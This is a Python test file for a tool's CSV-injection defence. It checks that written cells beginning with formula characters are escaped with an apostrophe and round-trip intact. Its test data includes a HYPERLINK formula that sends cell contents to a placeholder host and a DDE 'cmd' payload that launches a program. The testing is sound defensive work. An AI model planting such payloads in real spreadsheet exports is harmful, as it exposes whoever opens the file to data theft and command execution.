"""CSV injection: every CSV the product writes neutralises cells a spreadsheet would run."""

from __future__ import annotations

import csv
import shutil
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st
from typer.testing import CliRunner

from notereview._spreadsheet import (
    FORMULA_STARTS,
    neutralise_formulas,
    read_output_csv,
    restore_formulas,
    write_output_csv,
)
from notereview.cli import app

HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"open")', "+cmd|' /C calc'!A0", "@SUM(1+1)",
           "-2+3", "\t=1+1", "\r=1+1", "'=already escaped"]  # fmt: skip


def test_a_formula_cell_gets_an_apostrophe_and_numbers_stay_numbers():
    frame = pd.DataFrame({"team": [*HOSTILE, "North", None], "n": list(range(-4, 5))})
    out = neutralise_formulas(frame)
    assert all(v.startswith("'") for v in out["team"][: len(HOSTILE)])
    assert out["team"].iloc[-2] == "North" and pd.isna(out["team"].iloc[-1])
    assert list(out["n"]) == list(range(-4, 5))  # -4 is a number, not a formula
    assert list(frame["team"][: len(HOSTILE)]) == HOSTILE  # the input is not changed


@given(st.lists(st.one_of(st.none(), st.text(max_size=12)), min_size=1, max_size=20))
def test_what_is_written_is_what_is_read_back(values):
    frame = pd.DataFrame({"text": values}, dtype=object)
    back = restore_formulas(neutralise_formulas(frame))
    assert back["text"].tolist() == frame["text"].tolist()


def test_a_carriage_return_inside_a_cell_starts_no_row(tmp_path: Path):
    """Found by the 10,000-row hostile extract: with LF line ends a lone CR in a record id was
    written bare, and a spreadsheet began a new row at it whose first cell was ``=1+1``."""
    frame = pd.DataFrame({"record_id": ["A \r=1+1", "B\n@SUM(1)", "C"], "n": [1, -2, 3]})
    path = tmp_path / "q.csv"
    write_output_csv(frame, path)
    with path.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))
    assert rows == [["record_id", "n"], ["A \r=1+1", "1"], ["B\n@SUM(1)", "-2"], ["C", "3"]]
    assert path.read_bytes().count(b"\r\n") == 4  # RFC 4180 line ends
    back = read_output_csv(path, dtype={"record_id": object})
    assert back["record_id"].tolist() == frame["record_id"].tolist()


@pytest.mark.parametrize("workers", ["1", "2"])
def test_no_csv_the_run_writes_starts_a_formula(synth_extract: Path, tmp_path: Path, workers):
    extract = tmp_path / "extract"
    shutil.copytree(synth_extract, extract)
    children = pd.read_csv(extract / "children.csv", dtype=str, keep_default_na=False)
    children.loc[0, "team"] = HOSTILE[0]
    children.loc[1, "worker_id"] = HOSTILE[1]
    children.loc[2, "team"] = HOSTILE[2]
    children.to_csv(extract / "children.csv", index=False)
    out = tmp_path / "out"
    args = ["score", str(extract), "--out", str(out), "--format", "csv", "--workers", workers]
    result = CliRunner().invoke(app, args)
    assert result.exit_code == 0, result.output
    files = sorted(out.glob("*.csv"))
    assert {f.name for f in files} >= {"cases.csv", "criteria.csv", "visits.csv"}
    cells = [c for f in files for row in csv.reader(f.open(encoding="utf-8")) for c in row]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    assert "'" + HOSTILE[0] in cells and "'" + HOSTILE[1] in cells  # kept, neutralised
